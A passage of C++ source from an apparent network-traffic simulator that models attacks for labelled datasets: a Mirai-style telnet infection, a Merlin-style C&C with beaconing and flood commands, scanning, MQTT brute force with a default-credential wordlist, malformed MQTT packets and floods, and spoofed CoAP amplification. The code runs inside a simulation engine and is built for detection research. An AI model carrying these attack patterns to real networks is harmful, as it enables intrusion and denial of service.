        eng.tcp_listen(node, proto::kPortHttp, [this](TcpConn& c) { accept(c); });
        eng.log(node, "http-up", "file_bytes=" + std::to_string(file_bytes_));
    }

    std::uint64_t downloads() const { return downloads_; }

private:
    void accept(TcpConn& c) {
        c.on_data = [this](TcpConn& conn, const Bytes& b) {
            std::string req(b.begin(), b.end());
            if (req.find("GET ") == std::string::npos) return;
            ++downloads_;
            eng_->log(node_, "download", conn.peer_ip.str());
            std::string head = "HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\n"
                               "Content-Length: " +
                               std::to_string(file_bytes_) + "\r\n\r\n";
            Bytes resp = to_bytes(head);
            Rng body(fnv1a64("mirai.bin") ^ eng_->seed());
            std::size_t off = resp.size();
            resp.resize(off + file_bytes_);
            body.fill(resp.data() + off, file_bytes_);
            eng_->tcp_send(conn, resp);
            eng_->tcp_close(conn);
        };
    }

    Engine* eng_ = nullptr;
    std::size_t node_ = 0;
    std::size_t file_bytes_ = 61440;
    std::uint64_t downloads_ = 0;
};

// ---------------------------------------------------------------------------
// Victim add-on: BusyBox-style telnet service plus the dormant bot that the
// loader's ingress transfer awakens.
// ---------------------------------------------------------------------------

class VictimTelnetBehavior : public sim::Behavior {
public:
    void start(Engine& eng, std::size_t node) override {
        eng_ = &eng;
        node_ = node;
        const auto& inst = eng.node_def(node);
        if (!inst.vulnerable_telnet) return;
        creds_ = *inst.vulnerable_telnet;
        bot_.init(eng, node);
        eng.tcp_listen(node, proto::kPortTelnet, [this](TcpConn& c) { accept(c); });
        eng.log(node, "telnet-up", "");
    }

    MiraiBotRuntime& bot() { return bot_; }
    bool infected() const { return infected_; }

private:
    struct Session {
        int stage = 0;  // 0 await user, 1 await pass, 2 shell
        std::string user;
        LineBuffer lines;
    };

    void accept(TcpConn& c) {
        auto sess = std::make_shared<Session>();
        eng_->tcp_send(c, to_bytes("login: "));
        c.on_data = [this, sess](TcpConn& conn, const Bytes& b) { input(conn, *sess, b); };
    }

    void input(TcpConn& c, Session& s, const Bytes& b) {
        for (const auto& line : s.lines.feed(b)) {
            switch (s.stage) {
                case 0:
                    s.user = line;
                    s.stage = 1;
                    eng_->tcp_send(c, to_bytes("Password: "));
                    break;
                case 1:
                    if (s.user == creds_.first && line == creds_.second) {
                        s.stage = 2;
                        eng_->tcp_send(c, to_bytes("# "));
                    } else {
                        s.stage = 0;
                        eng_->tcp_send(c, to_bytes("Login incorrect\r\nlogin: "));
                    }
                    break;
                case 2:
                    shell_command(c, line);
                    break;
            }
        }
    }

    void shell_command(TcpConn& c, const std::string& line) {
        if (line.find("wget") != std::string::npos) {
            auto host_pos = line.find("http://");
            if (host_pos == std::string::npos) return;
            auto rest = line.substr(host_pos + 7);
            auto slash = rest.find('/');
            auto addr = Ipv4::parse(rest.substr(0, slash));
            if (!addr) return;
            eng_->log(node_, "ingress", "fetching bot binary");
            fetch_binary(*addr);
        } else {
            eng_->tcp_send(c, to_bytes("# "));
        }
    }

    void fetch_binary(Ipv4 server) {
        if (infected_) return;
        std::uint32_t prov = eng_->prov_id("mirai-ingress", "maroni");
        emit_flow_intervals(*eng_, eng_->now(),
                            eng_->now() + 60 * kSecond, eng_->node_addr(node_),
                            PortPattern::band(sim::kBandMiraiIngress), server,
                            PortPattern::exact(proto::kPortHttp), wire::kProtoTcp,
                            "mirai-ingress", "maroni");
        auto conn = eng_->open_tcp(node_, server, proto::kPortHttp, prov,
                                   eng_->alloc_port(node_, sim::kBandMiraiIngress));
        if (!conn) return;
        auto got = std::make_shared<std::size_t>(0);
        std::size_t expect = 61440;  // body size served by the download node
        conn->on_connected = [this, server](TcpConn& c) {
            eng_->tcp_send(c, to_bytes("GET /mirai.bin HTTP/1.0\r\nHost: " + server.str() +
                                       "\r\n\r\n"));
        };
        conn->on_data = [this, got, expect](TcpConn&, const Bytes& b) {
            *got += b.size();
            if (*got >= expect && !infected_) {
                infected_ = true;
                eng_->log(node_, "infected", "bytes=" + std::to_string(*got));
                bot_.activate();
            }
        };
        conn->on_peer_closed = [this](TcpConn& c) { eng_->tcp_close(c); };
    }

    Engine* eng_ = nullptr;
    std::size_t node_ = 0;
    std::pair<std::string, std::string> creds_;
    MiraiBotRuntime bot_;
    bool infected_ = false;
};

// ---------------------------------------------------------------------------
// Merlin (Falcone): C&C server + agents
// ---------------------------------------------------------------------------

constexpr std::size_t kMerlinToolBytes = 716800;  // ~700 KB hping3 transfer
constexpr std::size_t kMerlinBeaconBody = 208;

class MerlinCncBehavior : public sim::Behavior {
public:
    void start(Engine& eng, std::size_t node) override {
        eng_ = &eng;
        node_ = node;
        eng.tcp_listen(node, proto::kPortMerlinHttp, [this](TcpConn& c) { accept(c, false); });
        eng.tcp_listen(node, proto::kPortMerlinTls, [this](TcpConn& c) { accept(c, true); });
        eng.log(node, "merlin-up", "");
    }

    // Commands are buffered per agent address and handed out on the next
    // beacon, mirroring a pull-based C&C.
    void queue_command(Ipv4 agent, const std::string& cmd) {
        pending_[agent.v].push_back(cmd);
        eng_->log(node_, "queue", agent.str() + " " + cmd);
    }
    void queue_broadcast(const std::string& cmd) {
        broadcast_.push_back(cmd);
        eng_->log(node_, "queue", "broadcast " + cmd);
    }

private:
    void accept(TcpConn& c, bool tls) {
        auto ref = eng_->conn_ref(c);
        if (tls) {
            auto chan = std::make_shared<devices::TlsChannel>();
            c.user = chan;  // channel lives exactly as long as the connection
            devices::TlsChannel* raw = chan.get();
            Ipv4 peer = c.peer_ip;
            raw->on_message = [this, raw, peer](const Bytes& b) { raw->send(respond(peer, b)); };
            raw->attach(*eng_, ref, false);
        } else {
            c.on_data = [this](TcpConn& conn, const Bytes& b) {
                eng_->tcp_send(conn, respond(conn.peer_ip, b));
                // http/1.1 keep-alive: agent closes when done
            };
        }
    }

    Bytes respond(Ipv4 agent, const Bytes& req) {
        std::string text(req.begin(), req.end());
        std::string body;
        if (text.find("GET /tools/") != std::string::npos) {
            // ingress transfer
            Rng filler(fnv1a64("hping3") ^ eng_->seed());
            Bytes payload(kMerlinToolBytes);
            filler.fill(payload.data(), payload.size());
            std::string head = "HTTP/1.1 200 OK\r\nContent-Length: " +
                               std::to_string(payload.size()) + "\r\n\r\n";
            Bytes out = to_bytes(head);
            out.insert(out.end(), payload.begin(), payload.end());
            eng_->log(node_, "ingress-transfer", agent.str());
            return out;
        }
        // beacon: hand out one queued command, if any
        std::string cmd;
        auto it = pending_.find(agent.v);
        if (it != pending_.end() && !it->second.empty()) {
            cmd = it->second.front();
            it->second.erase(it->second.begin());
        } else if (broadcast_cursor_.count(agent.v) == 0 ||
                   broadcast_cursor_[agent.v] < broadcast_.size()) {
            std::size_t& cur = broadcast_cursor_[agent.v];
            if (cur < broadcast_.size()) cmd = broadcast_[cur++];
        }
        body = cmd.empty() ? "{\"job\":\"none\"}" : "{\"job\":\"" + cmd + "\"}";
        while (body.size() < 96) body += " ";
        std::string head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                           "Content-Length: " +
                           std::to_string(body.size()) + "\r\n\r\n";
        return to_bytes(head + body);
    }

    Engine* eng_ = nullptr;
    std::size_t node_ = 0;
    std::map<std::uint32_t, std::vector<std::string>> pending_;
    std::vector<std::string> broadcast_;
    std::map<std::uint32_t, std::size_t> broadcast_cursor_;
};

enum class MerlinProto { Http1, Http1Tls, H2, H2c, QuicModel };

inline MerlinProto merlin_proto_from(const std::string& s) {
    if (s == "http1-tls") return MerlinProto::Http1Tls;
    if (s == "h2") return MerlinProto::H2;
    if (s == "h2c") return MerlinProto::H2c;
    if (s == "quic-model") return MerlinProto::QuicModel;
    return MerlinProto::Http1;
}

class MerlinAgentRuntime {
public:
    void init(Engine& eng, std::size_t node) {
        eng_ = &eng;
        node_ = node;
        rng_ = eng.rng_stream("merlin:" + eng.node_def(node).node_id);
    }

    bool active() const { return active_; }
    bool has_tool() const { return has_tool_; }

    void activate(Ipv4 cnc, MerlinProto pr, double beacon_period_s) {
        if (active_) return;
        active_ = true;
        cnc_ = cnc;
        proto_mode_ = pr;
        beacon_period_ = static_cast<SimTime>(beacon_period_s * kSecond);
        prov_beacon_ = eng_->prov_id("merlin-cnc", "falcone");
        prov_ingress_ = eng_->prov_id("merlin-ingress", "falcone");
        prov_exec_ = eng_->prov_id("merlin-exec", "falcone");
        Ipv4 self = eng_->node_addr(node_);
        SimTime t1 = std::numeric_limits<SimTime>::max() / 4;
        emit_flow_intervals(*eng_, eng_->now(), t1, self,
                            PortPattern::band(sim::kBandMerlinBeacon), cnc_, {}, std::nullopt,
                            "merlin-cnc", "falcone");
        emit_flow_intervals(*eng_, eng_->now(), t1, self,
                            PortPattern::band(sim::kBandMerlinIngress), cnc_, {}, wire::kProtoTcp,
                            "merlin-ingress", "falcone");
        emit_flow_intervals(*eng_, eng_->now(), t1, self,
                            PortPattern::band(sim::kBandMerlinExec), cnc_, {}, wire::kProtoTcp,
                            "merlin-exec", "falcone");
        eng_->log(node_, "merlin-agent-up", cnc.str());
        beacon();
    }

    // Schedule-driven actions (the C&C pushes them via beacon responses;
    // these entry points let the orchestrator trigger local stages too).
    void ingress() {
        if (!active_ || has_tool_) return;
        auto conn = eng_->open_tcp(node_, cnc_, proto::kPortMerlinHttp, prov_ingress_,
                                   eng_->alloc_port(node_, sim::kBandMerlinIngress));
        if (!conn) return;
        auto got = std::make_shared<std::size_t>(0);
        conn->on_connected = [this](TcpConn& c) {
            eng_->tcp_send(c, to_bytes("GET /tools/hping3 HTTP/1.1\r\nHost: merlin\r\n\r\n"));
        };
        conn->on_data = [this, got](TcpConn& c, const Bytes& b) {
            *got += b.size();
            if (*got >= kMerlinToolBytes) {
                has_tool_ = true;
                eng_->log(node_, "tool-received", std::to_string(*got) + " bytes");
                eng_->tcp_close(c);
            }
        };
    }

    void exec_exchange() {
        if (!active_) return;
        auto conn = eng_->open_tcp(node_, cnc_, proto::kPortMerlinHttp, prov_exec_,
                                   eng_->alloc_port(node_, sim::kBandMerlinExec));
        if (!conn) return;
        auto rounds = std::make_shared<int>(0);
        conn->on_connected = [this](TcpConn& c) { send_exec(c); };
        conn->on_data = [this, rounds](TcpConn& c, const Bytes&) {
            if (++*rounds >= 3) {
                eng_->tcp_close(c);
                return;
            }
            send_exec(c);
        };
        eng_->log(node_, "exec", "environment setup");
    }

    void flood(const DosAttackSpec& spec) {
        if (!has_tool_) {
            eng_->log(node_, "dos-rejected", "no tool: ingress must precede attack");
            return;
        }
        bool known = false;
        for (const auto& k : merlin_dos_kinds()) known |= k == spec.kind;
        if (!known) return;
        eng_->log(node_, "merlin-dos", spec.kind + " " + spec.target.str());
        FloodGenerator::run(*eng_, node_, spec, "merlin-dos-" + spec.kind, "falcone",
                            rng_.fork("dos" + std::to_string(dos_count_++)));
    }

private:
    void send_exec(TcpConn& c) {
        std::string body(256, 'e');
        eng_->tcp_send(c, to_bytes("POST /results HTTP/1.1\r\nContent-Length: " +
                                   std::to_string(body.size()) + "\r\n\r\n" + body));
    }

    void beacon() {
        if (!active_) return;
        switch (proto_mode_) {
            case MerlinProto::QuicModel: beacon_quic(); break;
            case MerlinProto::Http1Tls: beacon_tls(); break;
            case MerlinProto::H2:
            case MerlinProto::H2c:
            case MerlinProto::Http1: beacon_http(); break;
        }
        eng_->schedule_in(beacon_period_, [this] { beacon(); });
    }

    std::string beacon_request() const {
        std::string body(kMerlinBeaconBody, 'b');
        return "POST /beacon HTTP/1.1\r\nHost: merlin\r\nContent-Length: " +
               std::to_string(body.size()) + "\r\n\r\n" + body;
    }

    void beacon_http() {
        auto conn = eng_->open_tcp(node_, cnc_, proto::kPortMerlinHttp, prov_beacon_,
                                   eng_->alloc_port(node_, sim::kBandMerlinBeacon));
        if (!conn) return;
        bool h2 = proto_mode_ == MerlinProto::H2 || proto_mode_ == MerlinProto::H2c;
        conn->on_connected = [this, h2](TcpConn& c) {
            if (h2) {
                Bytes preface = to_bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
                Bytes frames(64, 0);
                Rng filler(eng_->seed() ^ 0x4832);
                filler.fill(frames.data(), frames.size());
                preface.insert(preface.end(), frames.begin(), frames.end());
                eng_->tcp_send(c, preface);
            } else {
                eng_->tcp_send(c, to_bytes(beacon_request()));
            }
        };
        conn->on_data = [this](TcpConn& c, const Bytes& b) {
            handle_beacon_response(b);
            eng_->tcp_close(c);
        };
    }

    void beacon_tls() {
        auto conn = eng_->open_tcp(node_, cnc_, proto::kPortMerlinTls, prov_beacon_,
                                   eng_->alloc_port(node_, sim::kBandMerlinBeacon));
        if (!conn) return;
        auto chan = std::make_shared<devices::TlsChannel>();
        conn->user = chan;
        devices::TlsChannel* raw = chan.get();
        raw->on_message = [this](const Bytes& b) { handle_beacon_response(b); };
        std::uint64_t uid = conn->uid;
        conn->on_connected = [this, raw, uid](TcpConn& c) {
            if (c.uid != uid) return;
            raw->attach(*eng_, eng_->conn_ref(c), true);
            raw->send(to_bytes(beacon_request()));
        };
        // beacons self-terminate shortly after the response window
        eng_->schedule_in(5 * kSecond, [this, conn] {
            if (!conn->closed()) eng_->tcp_close(*conn);
        });
    }

    void beacon_quic() {
        // QUIC-like long header datagram; full QUIC is out of scope
        Bytes dgram(1 + 4 + 16 + 179);
        dgram[0] = 0xc3;
        dgram[1] = 0;
        dgram[2] = 0;
        dgram[3] = 0;
        dgram[4] = 1;
        Rng filler(rng_.fork("quic" + std::to_string(quic_count_++)));
        filler.fill(dgram.data() + 5, dgram.size() - 5);
        eng_->send_udp(node_, cnc_, proto::kPortMerlinTls, dgram, prov_beacon_,
                       eng_->alloc_port(node_, sim::kBandMerlinBeacon));
    }

    void handle_beacon_response(const Bytes& b) {
        std::string text(b.begin(), b.end());
        auto job = text.find("\"job\":\"");
        if (job == std::string::npos) return;
        auto end = text.find('"', job + 7);
        std::string cmd = text.substr(job + 7, end - job - 7);
        if (cmd.empty() || cmd == "none") return;
        dispatch(cmd);
    }

    void dispatch(const std::string& cmd) {
        auto parts = split(cmd, ' ');
        if (parts[0] == "ingress") {
            ingress();
        } else if (parts[0] == "exec") {
            exec_exchange();
        } else if (parts[0] == "flood" && parts.size() >= 6) {
            DosAttackSpec spec;
            spec.kind = parts[1];
            if (auto a = Ipv4::parse(parts[2])) spec.target = *a;
            spec.dport = static_cast<std::uint16_t>(std::atoi(parts[3].c_str()));
            spec.rate_pps = std::atof(parts[4].c_str());
            spec.duration_s = std::atof(parts[5].c_str());
            flood(spec);
        }
    }

    Engine* eng_ = nullptr;
    std::size_t node_ = 0;
    Rng rng_;
    Ipv4 cnc_;
    MerlinProto proto_mode_ = MerlinProto::Http1;
    SimTime beacon_period_ = 30 * kSecond;
    bool active_ = false, has_tool_ = false;
    std::uint32_t prov_beacon_ = 0, prov_ingress_ = 0, prov_exec_ = 0;
    int dos_count_ = 0, quic_count_ = 0;
};

// ---------------------------------------------------------------------------
// Calabrese: network scanner
// ---------------------------------------------------------------------------

struct ScanFinding {
    Ipv4 host;
    std::uint16_t port;
};

class ScannerBehavior : public sim::Behavior {
public:
    void start(Engine& eng, std::size_t node) override {
        eng_ = &eng;
        node_ = node;
        rng_ = eng.rng_stream("scanner:" + eng.node_def(node).node_id);
        prov_ = eng.prov_id("scan", "calabrese");
        eng.set_tcp_observer(node, [this](Ipv4 src, const wire::TcpView& t) {
            return observe(src, t);
        });
        eng.log(node, "scanner-up", "");
    }

    // Thorough: sequential connect scan with banner grabs. Fast: stateless
    // randomized SYN sweep.
    void scan(const std::string& profile, const std::vector<Ipv4>& hosts,
              const std::vector<std::uint16_t>& ports, std::function<void()> done = nullptr) {
        SimTime t0 = eng_->now();
        double rate = profile == "fast" ? 1000.0 : 100.0;
        SimTime dur = static_cast<SimTime>(
            (static_cast<double>(hosts.size() * ports.size()) / rate + 10.0) * kSecond);
        emit_flow_intervals(*eng_, t0, t0 + dur + 60 * kSecond, eng_->node_addr(node_),
                            PortPattern::band(sim::kBandScan), std::nullopt, {}, wire::kProtoTcp,
                            "scan", "calabrese");
        eng_->log(node_, "scan-start",
                  profile + " hosts=" + std::to_string(hosts.size()) +
                      " ports=" + std::to_string(ports.size()));
        auto job = std::make_shared<Job>();
        job->profile = profile;
        job->done = std::move(done);
        for (auto h : hosts)
            for (auto p : ports) job->probes.push_back({h, p});
        if (profile == "fast") {
            for (std::size_t i = job->probes.size(); i > 1; --i)
                std::swap(job->probes[i - 1], job->probes[rng_.below(static_cast<std::uint32_t>(i))]);
        }
        job->interval = static_cast<SimTime>(1e6 / rate);
        step(job);
    }

    const std::vector<ScanFinding>& findings() const { return findings_; }
    void clear_findings() { findings_.clear(); }

private:
    struct Job {
        std::string profile;
        std::vector<std::pair<Ipv4, std::uint16_t>> probes;
        std::size_t next = 0;
        SimTime interval = 10 * kMilli;
        std::function<void()> done;
        int outstanding = 0;
        bool finished = false;
    };

    void step(std::shared_ptr<Job> job) {
        if (job->next >= job->probes.size()) {
            finish(job);
            return;
        }
        auto [host, port] = job->probes[job->next++];
        if (job->profile == "fast") {
            wire::TcpSpec t;
            t.sport = eng_->alloc_port(node_, sim::kBandScan);
            t.dport = port;
            t.seq = rng_.u32();
            t.flags = wire::kSyn;
            eng_->send_raw_tcp(node_, eng_->node_addr(node_), host, t, {}, prov_);
        } else {
            connect_probe(job, host, port);
        }
        eng_->schedule_in(job->interval, [this, job] { step(job); });
    }

    void connect_probe(std::shared_ptr<Job> job, Ipv4 host, std::uint16_t port) {
        auto conn = eng_->open_tcp(node_, host, port, prov_, eng_->alloc_port(node_, sim::kBandScan));
        if (!conn) return;
        job->outstanding++;
        auto settle = [this, job](TcpConn& c, bool open) {
            if (open) record_open(c.peer_ip, c.peer_port);
            job->outstanding--;
            if (job->next >= job->probes.size()) finish(job);
        };
        conn->on_connected = [this, settle](TcpConn& c) mutable {
            // banner grab: wait briefly for a greeting, then tear down
            auto ref = eng_->conn_ref(c);
            eng_->schedule_in(300 * kMilli, [this, ref, settle]() mutable {
                if (ref && !ref->closed()) {
                    settle(*ref, true);
                    eng_->tcp_close(*ref);
                }
            });
        };
        conn->on_failed = [settle](TcpConn& c, const std::string&) mutable { settle(c, false); };
    }

    void finish(std::shared_ptr<Job> job) {
        if (job->finished || job->outstanding > 0) return;
        job->finished = true;
        eng_->log(node_, "scan-done", "open=" + std::to_string(findings_.size()));
        if (job->done) job->done();
    }

    bool observe(Ipv4 src, const wire::TcpView& t) {
        if (!sim::kBandScan.contains(t.dst_port)) return false;
        if ((t.flags & (wire::kSyn | wire::kAck)) == (wire::kSyn | wire::kAck)) {
            record_open(src, t.src_port);
            wire::TcpSpec rst;
            rst.sport = t.dst_port;
            rst.dport = t.src_port;
            rst.seq = t.ack;
            rst.flags = wire::kRst;
            eng_->send_raw_tcp(node_, eng_->node_addr(node_), src, rst, {}, prov_);
        }
        return true;  // no second packet to closed ports
    }

    void record_open(Ipv4 host, std::uint16_t port) {
        for (const auto& f : findings_)
            if (f.host == host && f.port == port) return;
        findings_.push_back({host, port});
        eng_->log(node_, "open", host.str() + ":" + std::to_string(port));
    }

    Engine* eng_ = nullptr;
    std::size_t node_ = 0;
    Rng rng_;
    std::uint32_t prov_ = 0;
    std::vector<ScanFinding> findings_;
};

// ---------------------------------------------------------------------------
// Calabrese: MQTT attacks
// ---------------------------------------------------------------------------

// Word list shipped with the brute-force tooling; the auth broker's real
// credentials sit somewhere inside it.
inline std::vector<std::pair<std::string, std::string>> mqtt_wordlist() {
    std::vector<std::pair<std::string, std::string>> words = {
        {"admin", "admin"},       {"admin", "password"}, {"mqtt", "mqtt"},
        {"user", "user"},         {"iot", "iot123"},     {"test", "test"},
        {"device", "device"},     {"admin", "12345"},
    };
    for (const auto& real : topology::broker_credentials()) words.push_back(real);
    words.push_back({"guest", "guest"});
    return words;
}

class MqttAttackerBehavior : public sim::Behavior {
public:
    void start(Engine& eng, std::size_t node) override {
        eng_ = &eng;
        node_ = node;
        eng.log(node, "mqtt-attacker-up", "");
    }

    void attack(const std::string& kind, Ipv4 broker, std::uint16_t port,
                const topology::ConfigMap& params) {
        std::string label = "mqtt-" + kind;
        std::uint32_t prov = eng_->prov_id(label, "calabrese");
        double duration_s = 30;
        if (auto it = params.find("duration_s"); it != params.end())
            duration_s = std::atof(it->second.c_str());
        SimTime t1 = eng_->now() + static_cast<SimTime>(duration_s * kSecond) + 60 * kSecond;
        emit_flow_intervals(*eng_, eng_->now(), t1, eng_->node_addr(node_),
                            PortPattern::band(sim::kBandMqttAttack), broker,
                            PortPattern::exact(port), wire::kProtoTcp, label, "calabrese");
        eng_->log(node_, "mqtt-attack", kind + " " + broker.str());
        if (kind == "brute-force") brute_force(broker, port, prov);
        else if (kind == "sniff-credentials") sniff(prov, duration_s);
        else if (kind == "info-disclosure") info_disclosure(broker, port, prov, duration_s);
        else if (kind == "malformed") malformed(broker, port, prov);
        else if (kind == "dos-connect-flood") connect_flood(broker, port, prov, params, duration_s);
        else if (kind == "dos-slow-keepalive") slow_keepalive(broker, port, prov, params, duration_s);
    }

    int brute_success_index() const { return brute_success_index_; }
    std::uint64_t disclosed() const { return disclosed_; }

private:
    void brute_force(Ipv4 broker, std::uint16_t port, std::uint32_t prov) {
        auto words = std::make_shared<std::vector<std::pair<std::string, std::string>>>(
            mqtt_wordlist());
        try_word(broker, port, prov, words, 0);
    }

    void try_word(Ipv4 broker, std::uint16_t port, std::uint32_t prov,
                  std::shared_ptr<std::vector<std::pair<std::string, std::string>>> words,
                  std::size_t i) {
        if (i >= words->size()) {
            eng_->log(node_, "brute-exhausted", broker.str());
            return;
        }
        auto client = std::make_shared<MqttClient>();
        keep_alive_objects_.push_back(client);
        MqttClient* cp = client.get();  // owned by keep_alive_objects_
        MqttClientConfig cfg;
        cfg.broker = broker;
        cfg.port = port;
        cfg.client_id = "probe";
        cfg.credentials = (*words)[i];
        cfg.prov = prov;
        cfg.sport = eng_->alloc_port(node_, sim::kBandMqttAttack);
        cp->on_connack = [this, broker, port, prov, words, i, cp](std::uint8_t rc) {
            if (rc == 0) {
                brute_success_index_ = static_cast<int>(i);
                eng_->log(node_, "brute-hit",
                          (*words)[i].first + ":" + (*words)[i].second + " index=" +
                              std::to_string(i));
                cp->disconnect();
                return;
            }
            cp->close();
            eng_->schedule_in(50 * kMilli, [this, broker, port, prov, words, i] {
                try_word(broker, port, prov, words, i + 1);
            });
        };
        cp->on_failed = [this, broker, port, prov, words, i](const std::string&) {
            eng_->schedule_in(kSecond, [this, broker, port, prov, words, i] {
                try_word(broker, port, prov, words, i + 1);
            });
        };
        cp->open(*eng_, node_, cfg);
    }

    void sniff(std::uint32_t, double duration_s) {
        // A switched topology carries no third-party CONNECTs to this port;
        // the attempt itself is logged for the ground truth record.
        eng_->log(node_, "sniff-start", "passive capture window");
        eng_->schedule_in(static_cast<SimTime>(duration_s * kSecond),
                          [this] { eng_->log(node_, "sniff-end", "0 credentials observed"); });
    }

    void info_disclosure(Ipv4 broker, std::uint16_t port, std::uint32_t prov, double duration_s) {
        auto client = std::make_shared<MqttClient>();
        keep_alive_objects_.push_back(client);
        MqttClient* cp = client.get();
        MqttClientConfig cfg;
        cfg.broker = broker;
        cfg.port = port;
        cfg.client_id = "reader";
        cfg.prov = prov;
        cfg.sport = eng_->alloc_port(node_, sim::kBandMqttAttack);
        cp->on_connack = [this, cp](std::uint8_t rc) {
            if (rc != 0) {
                eng_->log(node_, "disclosure-denied", "rc=" + std::to_string(rc));
                cp->close();
                return;
            }
            cp->subscribe("#");
        };
        cp->on_publish = [this](const proto::MqttMsg& m) {
            ++disclosed_;
            eng_->log(node_, "disclosed", m.topic + " bytes=" + std::to_string(m.payload.size()));
        };
        cp->open(*eng_, node_, cfg);
        eng_->schedule_in(static_cast<SimTime>(duration_s * kSecond), [this, cp] {
            if (cp->connected()) cp->disconnect();
            eng_->log(node_, "disclosure-end", std::to_string(disclosed_) + " messages");
        });
    }

    void malformed(Ipv4 broker, std::uint16_t port, std::uint32_t prov) {
        auto conn = eng_->open_tcp(node_, broker, port, prov,
                                   eng_->alloc_port(node_, sim::kBandMqttAttack));
        if (!conn) return;
        conn->on_connected = [this](TcpConn& c) {
            // remaining-length varint exceeding 4 continuation bytes
            eng_->tcp_send(c, Bytes{0x10, 0xff, 0xff, 0xff, 0xff, 0x7f, 0x00});
        };
        conn->on_failed = [this](TcpConn&, const std::string&) {
            eng_->log(node_, "malformed-closed", "broker reset the connection");
        };
    }

    void connect_flood(Ipv4 broker, std::uint16_t port, std::uint32_t prov,
                       const topology::ConfigMap& params, double duration_s) {
        int conns = 32;
        if (auto it = params.find("connections"); it != params.end())
            conns = std::atoi(it->second.c_str());
        SimTime end_at = eng_->now() + static_cast<SimTime>(duration_s * kSecond);
        for (int i = 0; i < conns; ++i) {
            eng_->schedule_in(i * 20 * kMilli, [this, broker, port, prov, end_at, i] {
                flood_conn(broker, port, prov, end_at, i);
            });
        }
    }

    void flood_conn(Ipv4 broker, std::uint16_t port, std::uint32_t prov, SimTime end_at, int id) {
        auto client = std::make_shared<MqttClient>();
        keep_alive_objects_.push_back(client);
        MqttClient* cp = client.get();
        MqttClientConfig cfg;
        cfg.broker = broker;
        cfg.port = port;
        cfg.client_id = "flood-" + std::to_string(id);
        cfg.prov = prov;
        cfg.sport = eng_->alloc_port(node_, sim::kBandMqttAttack);
        auto rng = std::make_shared<Rng>(eng_->rng_stream("mqttflood" + std::to_string(id)));
        cp->on_connack = [this, cp, rng, end_at, id](std::uint8_t rc) {
            if (rc != 0) {
                cp->close();
                return;
            }
            flood_publish(cp, rng, end_at, id);
        };
        cp->open(*eng_, node_, cfg);
    }

    void flood_publish(MqttClient* client, std::shared_ptr<Rng> rng, SimTime end_at, int id) {
        if (eng_->now() >= end_at || !client->connected()) {
            if (client->connected()) client->disconnect();
            return;
        }
        Bytes big(8192);
        rng->fill(big.data(), big.size());
        client->publish("flood/" + std::to_string(id), big);
        eng_->schedule_in(100 * kMilli, [this, client, rng, end_at, id] {
            flood_publish(client, rng, end_at, id);
        });
    }

    void slow_keepalive(Ipv4 broker, std::uint16_t port, std::uint32_t prov,
                        const topology::ConfigMap& params, double duration_s) {
        int conns = 16;
        if (auto it = params.find("connections"); it != params.end())
            conns = std::atoi(it->second.c_str());
        SimTime end_at = eng_->now() + static_cast<SimTime>(duration_s * kSecond);
        for (int i = 0; i < conns; ++i) {
            auto client = std::make_shared<MqttClient>();
            keep_alive_objects_.push_back(client);
            MqttClient* cp = client.get();
            MqttClientConfig cfg;
            cfg.broker = broker;
            cfg.port = port;
            cfg.client_id = "slow-" + std::to_string(i);
            cfg.prov = prov;
            cfg.sport = eng_->alloc_port(node_, sim::kBandMqttAttack);
            cp->on_connack = [this, cp, end_at](std::uint8_t rc) {
                if (rc == 0) trickle(cp, end_at);
            };
            cp->open(*eng_, node_, cfg);
        }
    }

    void trickle(MqttClient* client, SimTime end_at) {
        if (eng_->now() >= end_at || !client->connected()) {
            if (client->connected()) client->disconnect();
            return;
        }
        client->pingreq();
        eng_->schedule_in(30 * kSecond, [this, client, end_at] { trickle(client, end_at); });
    }

    Engine* eng_ = nullptr;
    std::size_t node_ = 0;
    int brute_success_index_ = -1;
    std::uint64_t disclosed_ = 0;
    std::vector<std::shared_ptr<MqttClient>> keep_alive_objects_;
};

// ---------------------------------------------------------------------------
// Calabrese: CoAP amplification
// ---------------------------------------------------------------------------

class CoapAttackerBehavior : public sim::Behavior {
public:
    void start(Engine& eng, std::size_t node) override {
        eng_ = &eng;
        node_ = node;
        eng.log(node, "coap-attacker-up", "");
    }

    // `count` spoofed-source discovery GETs; responses amplify toward the
    // victim. The request is the canonical 21-byte discovery probe.
    void amplify(Ipv4 server, Ipv4 victim, int count, double rate_pps = 50) {
        if (count <= 0) return;
        std::uint32_t prov = eng_->prov_id("coap-amplification", "calabrese");
        SimTime dur = static_cast<SimTime>(count / rate_pps * kSecond);
        emit_flow_intervals(*eng_, eng_->now(), eng_->now() + dur + 30 * kSecond, victim,
                            PortPattern::band(sim::kBandCoapAmp), server,
                            PortPattern::exact(proto::kPortCoap), wire::kProtoUdp,
                            "coap-amplification", "calabrese");
        eng_->log(node_, "amplification", "server=" + server.str() + " victim=" + victim.str() +
                                              " count=" + std::to_string(count));
        SimTime gap = static_cast<SimTime>(1e6 / rate_pps);
        send_one(server, victim, count, gap, prov, 0);
    }

    static Bytes discovery_request(std::uint16_t mid) {
        proto::CoapMsg m;
        m.type = proto::CoapType::Con;
        m.code = proto::CoapCode::Get;
        m.message_id = mid;
        m.uri_path = "/.well-known/core";
        return proto::encode(m);
    }

private:
    void send_one(Ipv4 server, Ipv4 victim, int remaining, SimTime gap, std::uint32_t prov,
                  std::uint16_t mid) {
        if (remaining <= 0) return;
        std::uint16_t sport = static_cast<std::uint16_t>(
            sim::kBandCoapAmp.lo + (mid % (sim::kBandCoapAmp.hi - sim::kBandCoapAmp.lo)));
        eng_->send_udp_spoofed(node_, victim, sport, server, proto::kPortCoap,
                               discovery_request(mid), prov);
        eng_->schedule_in(gap, [this, server, victim, remaining, gap, prov, mid] {
            send_one(server, victim, remaining - 1, gap, prov, mid + 1);
        });
    }

    Engine* eng_ = nullptr;
    std::size_t node_ = 0;
};

// Metasploit node: contributes the word-list brute force; reuses the MQTT
// attacker machinery.
class MetasploitBehavior : public MqttAttackerBehavior {};

// ---------------------------------------------------------------------------
// Behavior factory + schedule orchestration
// ---------------------------------------------------------------------------

inline std::unique_ptr<sim::Behavior> make_behavior(const std::string& behavior_id) {
    if (behavior_id == "mirai-bot") return std::make_unique<MiraiBotBehavior>();
    if (behavior_id == "mirai-cnc") return std::make_unique<MiraiCncBehavior>();
    if (behavior_id == "mirai-scan-listener") return std::make_unique<MiraiScanListenerBehavior>();
